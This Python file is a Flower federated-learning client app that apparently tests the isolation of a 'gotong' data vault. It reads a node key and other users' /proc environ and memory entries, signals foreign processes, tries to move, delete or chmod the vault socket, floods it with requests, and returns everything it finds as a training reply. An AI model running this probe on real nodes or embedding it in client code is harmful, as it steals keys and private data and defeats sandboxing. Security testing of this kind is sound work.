"""What a shipped program tries on a node, as the user that runs it; what it finds is what it obtained."""

import json
import os
import signal
import socket
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

from flwr.app import Array, ArrayRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

VAULT = Path(os.environ.get("GOTONG_VAULT_SOCKET", "/none"))
FLOOD = 400

app = ClientApp()


@app.train()
@app.query()
def intrude(message: Message, context: Context) -> Message:  # noqa: ARG001
    """Look, touch, ask, flood; the findings travel to the coordinator as a reply would."""
    more = message.content["more"]
    assert isinstance(more, ArrayRecord)
    frames = [bytes(more[str(number)].data) for number in range(len(more))]
    findings = {
        "user": os.geteuid(),
        "key": _reads(VAULT.parent.parent / "courier" / "node.key"),
        "obtained": [*_files(), *_processes(), *_touched()],
        "network": _ports_of(VAULT.stat().st_uid),
        "replies": [_ask(frame).hex() for frame in frames],
        "flood": [_ask(frames[0]).hex() for _ in range(FLOOD)],
    }
    data = json.dumps(findings).encode()
    reply = Array(dtype="uint8", shape=(len(data),), stype="gotong.frame", data=data)
    return Message(RecordDict({"gotong": ArrayRecord({"frame": reply})}), reply_to=message)


def _files() -> Iterator[str]:
    """Everything whose path stands in a command line of this machine, and what lies in and beside it."""
    home = VAULT.parent.parent
    known = {home / "vault" / name for name in ("vault.sqlite", "vault.sqlite-wal", "fingerprint.key", "paused")}
    for pid in _foreign():
        with suppress(OSError):
            for word in (Path("/proc") / pid / "cmdline").read_text(errors="replace").split("\0"):
                known |= _paths(word)
    for path in sorted(known):
        inside: list[Path] = []
        with suppress(OSError):
            inside = list(path.rglob("*")) if path.is_dir() else []
        yield from (str(each) for each in [path, *inside] if _reads(each) and not _owned(each))


def _paths(word: str) -> set[Path]:
    """A vault's place is JSON in its command line, and no secret: it names data, policy and home."""
    try:
        values = json.loads(word)
    except ValueError:
        return set()
    texts = [value for value in values.values() if isinstance(value, str)] if isinstance(values, dict) else []
    found = {Path(text) for text in texts if text.startswith("/")}
    return found | {path / name for path in found for name in ("health.csv", "policy.toml", "vault.sqlite")}


def _processes() -> Iterator[str]:
    """What /proc gives away of other users' processes, and whether they can be ended."""
    for pid in _foreign():
        for name in ("environ", "mem", "maps", "fd", "cwd", "root", "exe", "map_files"):
            path = Path("/proc") / pid / name
            with suppress(OSError):
                if path.is_symlink():
                    yield f"{path} -> {path.readlink()}"
                elif path.is_dir():
                    yield f"{path}: {[each.name for each in path.iterdir()]}"
                elif path.open("rb").read(1):
                    yield str(path)
        with suppress(OSError):
            os.kill(int(pid), signal.SIGCONT)
            yield f"signal to {pid}"


def _touched() -> Iterator[str]:
    home, line = VAULT.parent.parent, VAULT.parent
    forbidden: dict[str, Callable[[], object]] = {
        "pause": lambda: (home / "vault" / "paused").write_text("x"),
        "plant": lambda: (line / "x").write_text("x"),
        "move": lambda: VAULT.rename(line / "mine"),
        "remove": VAULT.unlink,
        "pose": lambda: socket.socket(socket.AF_UNIX).bind(str(line / "other")),
        "open": lambda: VAULT.chmod(0o777),
    }
    for name, act in forbidden.items():
        with suppress(OSError):
            act()
            yield name


def _foreign() -> list[str]:
    """Processes of the vault's user."""
    owner = VAULT.stat().st_uid
    return [each.name for each in Path("/proc").iterdir() if each.name.isdigit() and _owner(each) == owner]


def _owner(path: Path) -> int:
    try:
        return path.stat().st_uid
    except OSError:
        return -1


def _owned(path: Path) -> bool:
    return _owner(path) == os.geteuid()


def _reads(path: Path) -> bool:
    try:
        return path.is_file() and bool(path.open("rb").read(1))
    except OSError:
        return False


def _ports_of(user: int) -> list[str]:
    """Every TCP and UDP socket of a user, as proc(5) tells: a vault should have none."""
    found = []
    for table in ("tcp", "tcp6", "udp", "udp6"):
        with suppress(OSError):
            rows = [row.split() for row in (Path("/proc/net") / table).read_text().splitlines()[1:]]
            found += [f"{table} {row[1]}" for row in rows if int(row[7]) == user and row[9] != "0"]
    return found


def _ask(frame: bytes) -> bytes:
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(60)
        line.connect(str(VAULT))
        line.sendall(frame)
        line.shutdown(socket.SHUT_WR)
        parts = []
        while part := line.recv(2**20):
            parts.append(part)
    return b"".join(parts)
